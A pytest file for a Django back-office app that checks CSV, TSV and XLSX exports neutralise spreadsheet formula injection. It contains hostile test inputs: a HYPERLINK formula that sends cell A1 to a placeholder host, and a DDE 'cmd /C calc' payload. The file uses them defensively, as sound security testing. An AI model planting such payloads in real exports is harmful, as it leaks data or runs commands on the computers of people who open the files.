"""Every CSV/XLSX export neutralises text a spreadsheet would run as a formula."""

import csv
import io
import re
from datetime import date
from decimal import Decimal

import pytest
from django.contrib import admin
from import_export.admin import ImportExportMixin
from openpyxl import load_workbook

from backoffice.core.exports import FORMULA_START, NeutralisingResource, neutralise
from finance import bookings
from finance.ledger import services as ledger_services
from finance.ledger.models import Account
from groups.organisation import services as group_services
from tenants.models import User
from tests.conftest import group_path

HOSTILE = '=HYPERLINK("https://example.invalid/?"&A1,"klik")'


def _live_formulas(texts) -> list[str]:
    """Cells a spreadsheet would run: starting with a formula character, and not a number."""
    return [t for t in texts if isinstance(t, str) and neutralise(t) != t]


def _csv_cells(body: bytes, delimiter=",") -> list[str]:
    reader = csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=delimiter)
    return [cell for row in reader for cell in row]


def _xlsx_cells(body: bytes) -> list:
    workbook = load_workbook(io.BytesIO(body))
    cells = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"formula in {cell.coordinate}: {cell.value}"
                cells.append(cell.value)
    return cells


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+31 6 1234 5678 x", "'+31 6 1234 5678 x"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        # plain numbers stay numbers, plain text stays as it is
        ("-12.50", "-12.50"),
        ("-1.250,00", "-1.250,00"),
        ("+3", "+3"),
        ("a=b", "a=b"),
        ("Koffie", "Koffie"),
        ("", ""),
        (Decimal("-12.50"), Decimal("-12.50")),
        (None, None),
        (date(2026, 1, 2), date(2026, 1, 2)),
    ],
)
def test_neutralise(value, expected):
    assert neutralise(value) == expected


def test_every_formula_start_is_neutralised():
    for start in FORMULA_START:
        assert neutralise(start + "x").startswith("'")


def test_chart_of_accounts_export_csv_and_xlsx(in_group_a, users, client_as, group_a):
    ledger_services.account_create(
        user=users["treasurer"], code="4990", name=HOSTILE, kind="lasten", rgs_code="@WBedOvr"
    )
    client = client_as("treasurer")
    url = group_path(group_a, "financien/rekeningen/export/")

    cells = _csv_cells(client.get(url).content)
    assert "'" + HOSTILE in cells and "'@WBedOvr" in cells
    assert _live_formulas(cells) == []

    cells = _xlsx_cells(client.get(url + "?formaat=xlsx").content)
    assert "'" + HOSTILE in cells
    assert _live_formulas(cells) == []


def test_avg_member_export_csv(in_group_a, client_as, group_a, users):
    member = group_services.member_create(
        name=HOSTILE,
        joined_on=date(2025, 1, 1),
        email="kwame@example.nl",
        phone="+31 6 12345678",
        address="-Kraaiennest 3",
        user_id=users["chair"].pk,
    )
    client = client_as("chair")
    response = client.get(group_path(group_a, f"leden/{member.pk}/gegevens/?formaat=csv"))
    assert response.status_code == 200
    cells = _csv_cells(response.content, delimiter=";")
    assert "'" + HOSTILE in cells and "'-Kraaiennest 3" in cells
    assert _live_formulas(cells) == []
    # JSON keeps the person's data exactly as it is: it is data, not a sheet
    data = client.get(group_path(group_a, f"leden/{member.pk}/gegevens/")).json()
    assert data["lid"]["naam"] == HOSTILE


def _export_admins():
    admin.autodiscover()  # done by the URLconf; this test may run before anything loaded it
    return [
        (model, model_admin)
        for model, model_admin in admin.site._registry.items()
        if isinstance(model_admin, ImportExportMixin)
    ]


def test_every_import_export_admin_uses_a_neutralising_resource(rf, users):
    admins = _export_admins()
    assert admins, "no admin exports found"
    request = rf.get("/")
    request.user = users["coordinator"]
    for model, model_admin in admins:
        for resource in model_admin.get_export_resource_classes(request):
            assert issubclass(resource, NeutralisingResource), (model, resource)


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "tsv"])
def test_every_admin_export_is_neutralised(world, client_as, users, group_a, fmt):
    # given: hostile text in every free-text field the registry's exports hold
    User.objects.filter(pk=users["member"].pk).update(
        first_name=HOSTILE, last_name="@Naam", email="-x@example.nl"
    )
    type(group_a).objects.filter(pk=group_a.pk).update(name="+Buurt", neighbourhood=HOSTILE)
    client = client_as("coordinator")
    exported = {}
    for model, _admin in _export_admins():
        url = f"/beheer/{model._meta.app_label}/{model._meta.model_name}/export/"
        form = client.get(url).content.decode()
        formats = {
            label.strip(): value
            for value, label in re.findall(r'<option value="(\d+)"[^>]*>([^<]*)', form)
        }
        fields = re.findall(r'<input type="checkbox" name="([a-z_]+resource_[a-z_]+)"', form)
        # when: the coordinator exports everything
        response = client.post(
            url, {"format": formats[fmt], "resource": "0", **{f: "on" for f in fields}}
        )
        assert response.status_code == 200, (model, response.status_code)
        if fmt == "xlsx":
            exported[model] = _xlsx_cells(response.content)
        else:
            exported[model] = _csv_cells(response.content, "\t" if fmt == "tsv" else ",")
        # then: nothing in it would run as a formula
        assert _live_formulas(exported[model]) == [], model
    assert {"'" + HOSTILE, "'@Naam", "'-x@example.nl"} <= set(exported[User])
    assert {"'+Buurt", "'" + HOSTILE} <= set(exported[type(group_a)])


@pytest.mark.parametrize(
    "kind", ["proefbalans", "balans", "baten-en-lasten", "kasboek", "grootboek"]
)
def test_every_report_xlsx_is_neutralised(in_group_a, users, client_as, group_a, kind):
    treasurer = users["treasurer"]
    bookings.expense_record(
        user=treasurer,
        date=date(2026, 2, 1),
        amount=Decimal("12.50"),
        category=Account.objects.get(code="4000"),
        description=HOSTILE,
    )
    for account, name in (
        (Account.objects.get(role="bank"), "-Bank"),
        (Account.objects.get(code="4000"), "@Activiteiten"),
    ):
        ledger_services.account_update(account=account, user=treasurer, name=name)
    response = client_as("treasurer").get(
        group_path(group_a, f"financien/rapporten/{kind}/?jaar=2026&formaat=xlsx")
    )
    assert response.status_code == 200
    cells = _xlsx_cells(response.getvalue())
    assert _live_formulas(cells) == []
    assert any(isinstance(c, str) and c.startswith("'") for c in cells), cells
